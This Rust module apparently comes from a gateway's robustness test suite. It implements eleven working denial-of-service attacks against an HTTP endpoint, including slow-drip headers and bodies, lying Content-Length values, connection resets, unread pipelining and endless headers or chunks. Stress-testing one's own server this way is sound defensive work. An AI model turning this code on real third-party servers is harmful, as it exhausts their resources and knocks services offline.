//! What one sender can do to a gateway. Each attack goes on until it is told to stop.
//!
//! Sources: `stack.md` B1 and `devices.md` section 5, where a server did not survive them.

use std::io::Write as _;
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use socket2::SockRef;

/// An attack on an address.
pub(crate) type Attack = fn(SocketAddr, &AtomicBool);

/// All of them, with their names.
pub(crate) const ATTACKS: &[(&str, Attack)] = &[
    ("a length that is a lie", false_lengths),
    ("heads that drip", slow_heads),
    ("bodies that drip", slow_bodies),
    ("bodies that stop", stalled_bodies),
    ("resets in the middle", resets),
    (
        "requests without end, whose answers are never read",
        pipelining,
    ),
    ("bytes that mean nothing", junk),
    ("HTTP/2", prefaces),
    ("heads without end", endless_heads),
    ("chunks without end", endless_chunks),
    ("connections that say nothing", silence),
];

/// How many connections an attack uses.
const CONNECTIONS: usize = 100;

/// How long an attacker waits for the gateway: not for long, since it must stop when it is told.
const PATIENCE: Duration = Duration::from_millis(500);

/// A connection; none if the gateway has no room for it now.
fn connect(address: SocketAddr) -> Option<TcpStream> {
    let stream = TcpStream::connect_timeout(&address, PATIENCE).ok()?;
    stream.set_write_timeout(Some(PATIENCE)).ok()?;
    stream.set_read_timeout(Some(PATIENCE)).ok()?;
    Some(stream)
}

/// As many connections as it gets.
fn connect_all(address: SocketAddr, stop: &AtomicBool) -> Vec<TcpStream> {
    let all = (0..CONNECTIONS).take_while(|_| !stop.load(Ordering::SeqCst));
    all.filter_map(|_| connect(address)).collect()
}

/// Keeps so many connections open, on each of which `begin` was said, and says one `more` after
/// the other on each; one that is closed is opened again.
fn keep_open(address: SocketAddr, stop: &AtomicBool, begin: &[u8], more: &[u8]) {
    let mut streams: Vec<Option<TcpStream>> = Vec::new();
    streams.resize_with(CONNECTIONS, || None);
    while !stop.load(Ordering::SeqCst) {
        for slot in &mut streams {
            if stop.load(Ordering::SeqCst) {
                return;
            }
            let said = slot.as_mut().map(|stream| stream.write_all(more));
            if !matches!(said, Some(Ok(()))) {
                *slot = connect(address).filter(|mut stream| stream.write_all(begin).is_ok());
            }
        }
        std::thread::yield_now();
    }
}

fn false_lengths(address: SocketAddr, stop: &AtomicBool) {
    let head = |length: &str| {
        format!("POST /ingest/door HTTP/1.1\r\nContent-Length: {length}\r\n\r\nhello")
    };
    for length in ["9223372036854775808", "18446744073709551615"] {
        for mut stream in connect_all(address, stop) {
            // It may be closed already.
            _ = stream.write_all(head(length).as_bytes());
        }
    }
    keep_open(address, stop, head("30000000000").as_bytes(), b"");
}

fn slow_heads(address: SocketAddr, stop: &AtomicBool) {
    keep_open(address, stop, b"POST /ingest/door HTTP/1.1\r\nX: ", b"x");
}

fn slow_bodies(address: SocketAddr, stop: &AtomicBool) {
    let head = b"POST /ingest/door HTTP/1.1\r\nContent-Length: 10000000\r\n\r\n";
    keep_open(address, stop, head, b"x");
}

/// Half a MiB on each: more than is there for all bodies together.
fn stalled_bodies(address: SocketAddr, stop: &AtomicBool) {
    let mut begin = b"POST /ingest/door HTTP/1.1\r\nContent-Length: 16000000\r\n\r\n".to_vec();
    begin.resize(1_000_000, b'x');
    let mut streams = connect_all(address, stop);
    for stream in &mut streams {
        // What is not read for lack of memory need not be taken.
        _ = stream.set_nonblocking(true);
        _ = stream.write(&begin);
    }
    keep_open(address, stop, &begin[..60], b"");
}

fn resets(address: SocketAddr, stop: &AtomicBool) {
    let request = b"POST /ingest/door HTTP/1.1\r\nContent-Length: 9\r\n\r\nhalf";
    let mut length = 0;
    while !stop.load(Ordering::SeqCst) {
        if let Some(mut stream) = connect(address) {
            _ = stream.write_all(&request[..length]);
            length = (length + 1) % request.len();
            // A reset instead of an end. Source: socket(7), SO_LINGER.
            _ = SockRef::from(&stream).set_linger(Some(Duration::ZERO));
        }
    }
}

fn pipelining(address: SocketAddr, stop: &AtomicBool) {
    let requests = b"GET /ingest/door HTTP/1.1\r\n\r\n".repeat(2000);
    let streams: Vec<TcpStream> = (0..10).filter_map(|_| connect(address)).collect();
    for stream in &streams {
        _ = stream.set_nonblocking(true);
    }
    while !stop.load(Ordering::SeqCst) {
        for mut stream in &streams {
            // As much as goes.
            _ = stream.write(&requests);
        }
        std::thread::yield_now();
    }
}

fn junk(address: SocketAddr, stop: &AtomicBool) {
    let mut state = 1_u32;
    let hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03";
    while !stop.load(Ordering::SeqCst) {
        let bytes: Vec<u8> = (0..500)
            .map(|_| {
                state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
                state.to_be_bytes()[0]
            })
            .collect();
        for bytes in [hello, bytes.as_slice(), &bytes[..20]] {
            if let Some(mut stream) = connect(address) {
                _ = stream.write_all(bytes);
            }
        }
    }
}

fn prefaces(address: SocketAddr, stop: &AtomicBool) {
    let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
    keep_open(address, stop, preface, b"\0");
}

fn endless_heads(address: SocketAddr, stop: &AtomicBool) {
    let line = vec![b'x'; 65_536];
    while !stop.load(Ordering::SeqCst) {
        let Some(mut stream) = connect(address) else {
            continue;
        };
        _ = stream.write_all(b"POST /ingest/door HTTP/1.1\r\nX: ");
        while !stop.load(Ordering::SeqCst) && stream.write_all(&line).is_ok() {}
    }
}

/// One byte a chunk, with a long extension each.
fn endless_chunks(address: SocketAddr, stop: &AtomicBool) {
    let chunks = b"1;extension=0123456789012345678901234567890123456789\r\nx\r\n".repeat(1000);
    while !stop.load(Ordering::SeqCst) {
        let Some(mut stream) = connect(address) else {
            continue;
        };
        _ = stream.write_all(b"POST /ingest/door HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n");
        while !stop.load(Ordering::SeqCst) && stream.write_all(&chunks).is_ok() {}
    }
}

fn silence(address: SocketAddr, stop: &AtomicBool) {
    keep_open(address, stop, b"", b"");
}
